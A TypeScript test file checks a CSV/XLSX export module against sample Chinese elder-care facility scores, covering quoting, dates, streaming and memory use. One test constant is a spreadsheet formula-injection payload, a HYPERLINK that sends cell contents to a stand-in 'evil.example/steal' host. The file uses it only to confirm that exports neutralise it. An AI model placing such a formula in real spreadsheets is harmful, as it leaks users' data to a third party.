import ExcelJS from 'exceljs';
import { mkdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable, Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { Column, csvHeader, csvLine, csvTransform, textWidth, writeXlsx } from './tabular';

const dir = join(tmpdir(), 'yian-reports');
mkdirSync(dir, { recursive: true });

// ---- data ------------------------------------------------------------------------------------

interface ScoreRow {
  name: string;
  district: string;
  score: number | null;
  beds: number;
  subsidy: number;
  inspectedAt: Date | null;
  note: string;
}

const INJECTION = '=HYPERLINK("http://evil.example/steal?d="&A2,"点击查看")';

const ROWS: ScoreRow[] = [
  {
    name: '常州市天宁区红梅街道颐康老年公寓',
    district: '天宁区',
    score: 92.5,
    beds: 120,
    subsidy: 123456.7,
    inspectedAt: new Date('2026-11-23T02:05:00Z'), // 10:05 in Shanghai
    note: '消防设施完好，"疏散通道"畅通',
  },
  {
    name: '天宁区茶山街道福寿养老院',
    district: '天宁区',
    score: null,
    beds: 45,
    subsidy: -1200,
    inspectedAt: new Date('2026-11-22T17:30:00Z'), // 01:30 on 11-23 in Shanghai
    note: '整改中,第二行\r\n换行内容',
  },
  { name: INJECTION, district: '+86 0519', score: 60, beds: 0, subsidy: 0, inspectedAt: null, note: '@SUM(1+1)' },
];

const COLUMNS: Column<ScoreRow>[] = [
  { key: 'name', header: '机构名称', value: (r) => r.name },
  { key: 'district', header: '所属区', value: (r) => r.district },
  { key: 'score', header: '安全得分', value: (r) => r.score, numFmt: '0.0' },
  { key: 'beds', header: '入住床位', value: (r) => r.beds, numFmt: '0' },
  { key: 'subsidy', header: '补贴金额（元）', value: (r) => r.subsidy, numFmt: '#,##0.00' },
  { key: 'inspectedAt', header: '最近检查时间', value: (r) => r.inspectedAt },
  { key: 'note', header: '备注', width: 30, value: (r) => r.note },
];

// ---- helpers ---------------------------------------------------------------------------------

/** A tiny RFC 4180 parser: quoted fields with "" escapes and embedded CR/LF, CRLF records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (ch === '"') {
        quoted = false;
        i++;
      } else {
        field += ch;
        i++;
      }
    } else if (ch === '"' && field === '') {
      quoted = true;
      i++;
    } else if (ch === ',') {
      record.push(field);
      field = '';
      i++;
    } else if (ch === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else {
      if (ch === '\r' || ch === '\n' || ch === '"') throw new Error(`bare ${JSON.stringify(ch)} at ${i}`);
      field += ch;
      i++;
    }
  }
  if (quoted) throw new Error('unterminated quoted field');
  if (field !== '' || record.length > 0) throw new Error('last record not terminated by CRLF');
  return records;
}

/** A Writable that keeps what it gets. */
function collector(): { stream: Writable; buffer: () => Buffer } {
  const chunks: Buffer[] = [];
  const stream = new Writable({
    write(chunk: Buffer, _encoding, callback) {
      chunks.push(chunk);
      callback();
    },
  });
  return { stream, buffer: () => Buffer.concat(chunks) };
}

async function xlsxOf<T>(sheets: Parameters<typeof writeXlsx<T>>[1], name: string): Promise<ExcelJS.Workbook> {
  const out = collector();
  await writeXlsx(out.stream, sheets);
  const buffer = out.buffer();
  writeFileSync(join(dir, `${name}.xlsx`), buffer);
  expect(buffer.subarray(0, 2).toString('latin1')).toBe('PK');
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ExcelJS.Buffer);
  return workbook;
}

// ---- CSV -------------------------------------------------------------------------------------

describe('CSV', () => {
  const csv = csvHeader(COLUMNS) + ROWS.map((r) => csvLine(COLUMNS, r)).join('');

  it('starts with a BOM and ends every record with CRLF', () => {
    expect(csv.startsWith('\ufeff机构名称,所属区,安全得分,入住床位,补贴金额（元）,最近检查时间,备注\r\n')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    writeFileSync(join(dir, 'tabular.csv'), csv);
  });

  it('round-trips values through an RFC 4180 parser', () => {
    const records = parseCsv(csv.slice(1));
    expect(records).toHaveLength(1 + ROWS.length);
    expect(records[0]).toEqual(COLUMNS.map((c) => c.header));
    expect(records[1]).toEqual([
      '常州市天宁区红梅街道颐康老年公寓',
      '天宁区',
      '92.5',
      '120',
      '123456.70',
      '2026-11-23 10:05:00',
      '消防设施完好，"疏散通道"畅通',
    ]);
    // Null → empty, negative numbers stay numbers, embedded comma and CRLF survive quoting.
    expect(records[2]).toEqual(['天宁区茶山街道福寿养老院', '天宁区', '', '45', '-1200.00', '2026-11-23 01:30:00', '整改中,第二行\r\n换行内容']);
  });

  it('defuses formula injection in text cells only', () => {
    const records = parseCsv(csv.slice(1));
    expect(records[3][0]).toBe(`'${INJECTION}`);
    expect(records[3][1]).toBe("'+86 0519");
    expect(records[3][6]).toBe("'@SUM(1+1)");
    const negative: Column<{ v: number | string }>[] = [{ key: 'v', header: '值', value: (r) => r.v }];
    expect(csvLine(negative, { v: -5 })).toBe('-5\r\n');
    expect(csvLine(negative, { v: '-5' })).toBe("'-5\r\n");
    expect(csvLine(negative, { v: '\t=1' })).toBe("'\t=1\r\n");
    expect(csvLine(negative, { v: '\r=1' })).toBe('"\'\r=1"\r\n');
  });

  it('prints dates of a date-only column as calendar days in Shanghai', () => {
    const cols: Column<Date>[] = [{ key: 'd', header: '日期', value: (d) => d, numFmt: 'yyyy-mm-dd' }];
    expect(csvLine(cols, new Date('2026-11-22T16:00:00Z'))).toBe('2026-11-23\r\n');
    expect(csvLine(cols, new Date('invalid'))).toBe('\r\n');
  });

  it('streams rows through csvTransform, header first', async () => {
    let text = '';
    await pipeline(
      Readable.from(ROWS),
      csvTransform(COLUMNS),
      new Writable({
        write(chunk: Buffer, _encoding, callback) {
          text += chunk.toString('utf8');
          callback();
        },
      }),
    );
    expect(text).toBe(csv);

    let empty = '';
    await pipeline(Readable.from([] as ScoreRow[]), csvTransform(COLUMNS), new Writable({ write: (c: Buffer, _e, cb) => ((empty += c.toString()), cb()) }));
    expect(empty).toBe(csvHeader(COLUMNS));
  });
});

// ---- XLSX ------------------------------------------------------------------------------------

describe('writeXlsx', () => {
  it('writes Chinese headers, a frozen filterable header and typed values', async () => {
    const workbook = await xlsxOf([{ name: '安全得分', columns: COLUMNS, rows: ROWS }], 'tabular');
    const sheet = workbook.getWorksheet('安全得分')!;
    expect(sheet).toBeDefined();

    const header = sheet.getRow(1);
    expect(COLUMNS.map((_, i) => header.getCell(i + 1).value)).toEqual(COLUMNS.map((c) => c.header));
    expect(header.getCell(1).font?.bold).toBe(true);

    expect(sheet.views[0].state).toBe('frozen');
    expect((sheet.views[0] as ExcelJS.WorksheetViewFrozen).ySplit).toBe(1);
    expect(sheet.autoFilter).toBe('A1:G4');

    for (let i = 1; i <= COLUMNS.length; i++) expect(sheet.getColumn(i).width).toBeGreaterThan(0);
    // Measured: 16 CJK characters count double; explicit width is kept.
    expect(sheet.getColumn(1).width).toBeGreaterThanOrEqual(34);
    expect(sheet.getColumn(7).width).toBe(30);

    const first = sheet.getRow(2);
    expect(first.getCell(1).value).toBe('常州市天宁区红梅街道颐康老年公寓');
    expect(first.getCell(3).value).toBe(92.5);
    expect(first.getCell(3).type).toBe(ExcelJS.ValueType.Number);
    expect(first.getCell(4).value).toBe(120);
    expect(first.getCell(5).value).toBe(123456.7);
    expect(first.getCell(5).numFmt).toBe('#,##0.00');
    // Excel dates have no zone: the cell holds Shanghai wall time (10:05), read back as UTC fields.
    expect(first.getCell(6).type).toBe(ExcelJS.ValueType.Date);
    expect((first.getCell(6).value as Date).toISOString()).toBe('2026-11-23T10:05:00.000Z');
    expect(first.getCell(6).numFmt).toBe('yyyy-mm-dd hh:mm');

    const second = sheet.getRow(3);
    expect(second.getCell(3).value).toBeNull();
    expect(second.getCell(5).value).toBe(-1200);
    expect(second.getCell(7).value).toBe('整改中,第二行\n换行内容');

    // The injection attempt is a plain string cell, not a formula.
    const third = sheet.getRow(4);
    expect(third.getCell(1).type).toBe(ExcelJS.ValueType.String);
    expect(third.getCell(1).value).toBe(INJECTION);
    expect(third.getCell(7).value).toBe('@SUM(1+1)');
  });

  it('puts a merged title above the header and freezes below it', async () => {
    const title = '常州市天宁区 养老机构安全合规得分（2026年11月23日导出）';
    const workbook = await xlsxOf([{ name: '得分', title, columns: COLUMNS, rows: ROWS }], 'tabular-title');
    const sheet = workbook.worksheets[0];
    expect(sheet.getCell('A1').value).toBe(title);
    expect(sheet.getCell('A1').font?.bold).toBe(true);
    expect(sheet.model.merges).toContain('A1:G1');
    expect(sheet.getRow(2).getCell(1).value).toBe('机构名称');
    expect((sheet.views[0] as ExcelJS.WorksheetViewFrozen).ySplit).toBe(2);
    expect(sheet.autoFilter).toBe('A2:G5');
    expect(sheet.getRow(3).getCell(1).value).toBe(ROWS[0].name);
  });

  it('writes several sheets from async sources and cleans up sheet names', async () => {
    async function* rows() {
      for (const row of ROWS) yield row;
    }
    const workbook = await xlsxOf(
      [
        { name: '得分/明细:2026[11]', columns: COLUMNS, rows: rows() },
        { name: '得分/明细:2026[11]', columns: COLUMNS.slice(0, 2), rows: [] },
      ],
      'tabular-sheets',
    );
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['得分_明细_2026_11_', '得分_明细_2026_11_(2)']);
    expect(workbook.worksheets[0].getRow(4).getCell(1).value).toBe(INJECTION);
    expect(workbook.worksheets[1].getRow(1).getCell(2).value).toBe('所属区');
    expect(workbook.worksheets[1].rowCount).toBe(1);
  });

  it('closes the row source and rejects when the output goes away', async () => {
    let closed = false;
    let produced = 0;
    async function* rows() {
      try {
        for (;;) {
          produced++;
          yield ROWS[produced % ROWS.length];
        }
      } finally {
        closed = true;
      }
    }
    const out = new Writable({
      write(_chunk, _encoding, callback) {
        callback();
        if (!out.destroyed) out.destroy();
      },
    });
    out.on('error', () => undefined);
    await expect(writeXlsx(out, [{ name: 'x', columns: COLUMNS, rows: rows() }])).rejects.toThrow(/closed/);
    expect(closed).toBe(true);
  });

  it('waits for a slow consumer instead of buffering the whole sheet', async () => {
    const cols: Column<number>[] = [
      { key: 'no', header: '序号', value: (i) => i },
      { key: 'name', header: '机构名称', value: (i) => `天宁区第${i}号养老机构（${(i * 7919) % 100_003}）` },
    ];
    const total = 8_000;
    let produced = 0;
    function* rows() {
      for (let i = 1; i <= total; i++) {
        produced = i;
        yield i;
      }
    }
    let received = 0;
    let receivedWhenSourceDone = -1;
    const slow = new Writable({
      highWaterMark: 16 * 1024,
      write(chunk: Buffer, _encoding, callback) {
        received += chunk.length;
        if (produced === total && receivedWhenSourceDone < 0) receivedWhenSourceDone = received;
        setTimeout(callback, 5);
      },
    });
    await writeXlsx(slow, [{ name: '慢', columns: cols, rows: rows() }]);
    // Without back-pressure the generator would finish before the consumer had seen much at all.
    expect(receivedWhenSourceDone / received).toBeGreaterThan(0.5);
    // The waits leave no listeners behind.
    expect(slow.listenerCount('close') + slow.listenerCount('drain') + slow.listenerCount('error')).toBeLessThan(6);
  }, 60_000);

  it('measures CJK characters as double width', () => {
    expect(textWidth('abc')).toBe(3);
    expect(textWidth('养老院（天宁）')).toBe(14);
  });

  it('streams 200,000 rows in roughly constant memory', async () => {
    const cols: Column<number>[] = [
      { key: 'no', header: '序号', value: (i) => i },
      { key: 'name', header: '机构名称', value: (i) => `天宁区第${i}号养老机构` },
      { key: 'score', header: '安全得分', value: (i) => (i % 1000) / 10, numFmt: '0.0' },
      { key: 'amount', header: '补贴金额（元）', value: (i) => i * 1.25, numFmt: '#,##0.00' },
      { key: 'at', header: '检查时间', value: (i) => new Date(Date.UTC(2026, 10, 1) + i * 60_000) },
    ];
    function* rows() {
      for (let i = 1; i <= 200_000; i++) yield i;
    }
    let bytes = 0;
    let peakRss = 0;
    const counting = new Writable({
      write(chunk: Buffer, _encoding, callback) {
        bytes += chunk.length;
        peakRss = Math.max(peakRss, process.memoryUsage.rss());
        callback();
      },
    });
    const before = process.memoryUsage.rss();
    const started = Date.now();
    await writeXlsx(counting, [{ name: '大表', columns: cols, rows: rows() }]);
    const seconds = (Date.now() - started) / 1000;
    const growthMb = (Math.max(peakRss, process.memoryUsage.rss()) - before) / 2 ** 20;
    console.log(`200,000 rows → ${(bytes / 2 ** 20).toFixed(1)} MB XLSX in ${seconds.toFixed(1)} s; peak RSS growth ${growthMb.toFixed(1)} MB`);
    expect(bytes).toBeGreaterThan(1_000_000);
    expect(growthMb).toBeLessThan(150);
  }, 180_000);
});
